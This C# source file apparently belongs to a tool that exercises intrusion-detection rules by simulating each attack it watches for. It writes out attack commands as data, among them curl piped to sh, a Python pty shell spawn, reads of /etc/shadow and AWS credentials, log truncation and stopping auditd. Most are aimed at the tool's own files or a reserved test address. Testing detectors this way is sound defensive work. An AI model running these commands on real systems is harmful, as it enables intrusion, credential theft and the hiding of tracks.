
using static Gyrfalcon.Simulating.Intruder;

namespace Gyrfalcon.Simulating;

/// <summary>An action for every stock rule.</summary>
static class Simulations
{
    const string Shell = "Shell Spawned in Container", Etc = "/etc Directory Modified";
    const long Attach = 0x4206; // PTRACE_SEIZE
    const int ProgramLoad = 5, UserModeOnly = 1, PacketFamily = 17, RawType = 3, Up = 0x1ed, Setuid = 0x800;

    /// <summary>All of them, in the order of the rules files.</summary>
    public static IReadOnlyList<Simulation> All { get; } =
    [
        .. ZeroTrust, .. Execution, .. Breakout, .. Kernel, .. Privileges, .. Persistence, .. Tampering, .. Credentials, .. Network,
    ];

    /// <summary>The one for a rule.</summary>
    public static Simulation Find(string rule) => All.First(simulation => simulation.Rule == rule);

    static IEnumerable<Simulation> ZeroTrust =>
    [
        new(Shell, "starts `sh` from a service", () => Runs("sh")),
        new("Network Scanning Tool Detected", "runs `nmap localhost`", () => Runs("nmap", "localhost")),
        new("Crypto Mining Detected", "runs `xmrig`", () => Runs("xmrig")),
        new("Unauthorized Kubectl Exec", "runs `id` in a running container", () => Runs("id")) { Place = SimulationPlace.RunningContainer },
        new("Sensitive File Access in Container", "runs `cat /etc/shadow`", () => Reads("cat", "/etc/shadow")),
        new("Suspicious Outbound Connection", "connects to port 4444 of 192.0.2.1, which is its own", () => Connects(SimulatedNetwork.Stranger, 4444)),
        new(Etc, "writes /etc/motd", () => Writes("/etc/motd")),
    ];

    static IEnumerable<Simulation> Execution =>
    [
        new("Package Installed in Container", "runs `apk add nmap`", () => Runs("apk", "add", "nmap")),
        new("Dropped Binary Run in Container", "copies a program to /tmp and runs it", () =>
        {
            CopiesItselfTo("/tmp/dropped");
            RunsFile("/tmp/dropped");
        }),
        new("Program Run from Memory", "runs a program from a memfd", () => RunsFromMemory()),
        new("Program Run from Shared Memory", "copies a program to /dev/shm and runs it", () =>
        {
            CopiesItselfTo("/dev/shm/dropped");
            RunsFile("/dev/shm/dropped");
        }),
        new("Shell on Network Connection", "a shell makes a connection its standard input", () => Plays(Part.TakeCommands, "bash")) { Also = [Shell] },
        new("Reverse Shell Command Line", "runs `python3 -c 'import pty; pty.spawn(…)'`", () => Runs("python3", "-c", "import pty; pty.spawn('/bin/sh')")),
        new("Downloaded Script Piped to Shell", "runs `sh -c 'curl … | sh'`", () => Runs("sh", "-c", "curl http://192.0.2.1/x | sh")) { Also = [Shell] },
    ];

    static IEnumerable<Simulation> Breakout =>
    [
        new("Mount Made in Container", "mounts a tmpfs", () => Programs.Must(Libc.Mount("tmpfs", "/tmp", "tmpfs", 0, null), "mount")),
        new("Release Agent Written in Container", "opens a file release_agent for writing", () => Writes("/tmp/cgrp/release_agent")),
        new("Kernel Helper Changed in Container", "opens a core_pattern of its own for writing", () => Writes("/host/proc/sys/kernel/core_pattern")),
        new("Runtime Socket Used in Container", "connects to a docker.sock of its own", () => ConnectsTo("/run/docker.sock")),
        new("Namespace Entered in Container", "enters its own network namespace", () => EntersNamespace()),
        new("Host Root Entered in Container", "changes its root to an empty /host", () => Programs.Must(Libc.ChangeRoot("/host"), "chroot")),
        new("Host Disk Opened in Container", "opens a file /dev/sda of its own", () => Writes("/dev/sda")),
        new("Container Runtime Overwritten", "opens a file runc of its own for writing", () => Writes("/usr/bin/runc")),
        new("Host Files Reached through Process", "opens /proc/1/root/etc/passwd", () => Opens("/proc/1/root/etc/passwd")),
    ];

    static IEnumerable<Simulation> Kernel =>
    [
        new("Kernel Module Loaded in Container", "asks for a module without a file, which fails", () => LoadNoModule()),
        new("Kernel Module Loaded by Unusual Program", "asks for a module without a file, which fails", () => LoadNoModule()) { Place = SimulationPlace.Host },
        new("BPF Program Loaded in Container", "asks for a BPF program without one, which fails", () => Libc.Call(Libc.Number.Bpf, ProgramLoad, 0, 0)),
        new("io_uring Set Up in Container", "makes an io_uring and closes it", () => SetUpRing()),
        new("userfaultfd Used in Container", "makes a userfaultfd and closes it", () => Libc.Close(Programs.Must((int)Libc.Call(Libc.Number.PageFaults, UserModeOnly, 0, 0), "userfaultfd"))),
        new("Kernel Memory Opened in Container", "opens a file /dev/mem of its own", () => Writes("/dev/mem")),
    ];

    static IEnumerable<Simulation> Privileges =>
    [
        new("Process Traced in Container", "traces a process of its own", () => OnAnotherProcess(pid => Programs.Must((int)Libc.Trace(Attach, pid, 0, 0), "ptrace"))),
        new("Process Memory Written in Container", "opens the memory of a process of its own", () => OnAnotherProcess(pid => Writes($"/proc/{pid}/mem"))),
        new("Setuid Bit Set in Container", "sets the bit on an empty file", () =>
        {
            Writes("/tmp/empty");
            File.SetUnixFileMode("/tmp/empty", (UnixFileMode)(Up | Setuid));
        }),
        new("User Namespace Made in Container", "makes a user namespace", () => MakesUserNamespace()),
        new("Exploit of pkexec or sudo", "runs `pkexec` without arguments", () => Runs("pkexec")),
        new("Loader Variable Given to Setuid Program", "runs `su` with GLIBC_TUNABLES", () => RunsWith("GLIBC_TUNABLES", "glibc.malloc.check=0", "su")),
    ];

    static IEnumerable<Simulation> Persistence =>
    [
        new("Preload Configuration Changed", "writes /etc/ld.so.preload", () => Writes("/etc/ld.so.preload")) { Also = [Etc] },
        new("Library Preloaded from Writable Folder", "runs a program with LD_PRELOAD below /tmp", Preloads),
        new("Cron Job Changed", "writes /var/spool/cron/root", () => Writes("/var/spool/cron/root")),
        new("systemd Unit Changed", "writes /etc/systemd/system/simulated.service", () => Writes("/etc/systemd/system/simulated.service")) { Also = [Etc] },
        new("SSH Key Authorized", "writes /root/.ssh/authorized_keys", () => Writes("/root/.ssh/authorized_keys")),
        new("Shell Start File Changed in Container", "writes /root/.bashrc", () => Writes("/root/.bashrc")),
    ];

    static IEnumerable<Simulation> Tampering =>
    [
        new("Log Cleared", "runs `truncate` on /var/log/auth.log", () => Plays(Part.Empty + "/var/log/auth.log", "truncate", "-s", "0", "/var/log/auth.log")),
        new("Shell History Removed", "runs `rm` on /root/.bash_history", () => Plays(Part.Remove + "/root/.bash_history", "rm", "/root/.bash_history")),
        new("Security Tool Disabled", "runs `systemctl stop auditd`", () => Runs("systemctl", "stop", "auditd")),
    ];

    static IEnumerable<Simulation> Credentials =>
    [
        new("Credentials Searched", "runs `find / -name id_rsa`", () => Runs("find", "/", "-name", "id_rsa")),
        new("Cloud Credentials Read in Container", "runs `cat /root/.aws/credentials`", () => Reads("cat", "/root/.aws/credentials")),
        new("Cloud Metadata Contacted in Container", "connects to 169.254.169.254, which is its own", () => Connects(SimulatedNetwork.Metadata, 80)),
        new("Process Environment Read in Container", "runs `cat /proc/1/environ`", () => Reads("cat", "/proc/1/environ")),
        new("Cluster Client Run in Container", "runs `kubectl get secrets`", () => Runs("kubectl", "get", "secrets")),
    ];

    static IEnumerable<Simulation> Network =>
    [
        new("Packet Socket Opened in Container", "opens a packet socket", () => Libc.Close(Programs.Must(Libc.Socket(PacketFamily, RawType, 0), "a packet socket"))),
        new("Tunnel Tool Run in Container", "runs `chisel client`", () => Runs("chisel", "client")),
    ];

    static void LoadNoModule() => Libc.Call(Libc.Number.LoadModule, -1, 0, 0);

    static void SetUpRing()
    {
        using var memory = new NativeMemory(120);
        Libc.Close(Programs.Must((int)Libc.Call(Libc.Number.SetUpRing, 1, memory.Address, 0), "io_uring_setup"));
    }
}
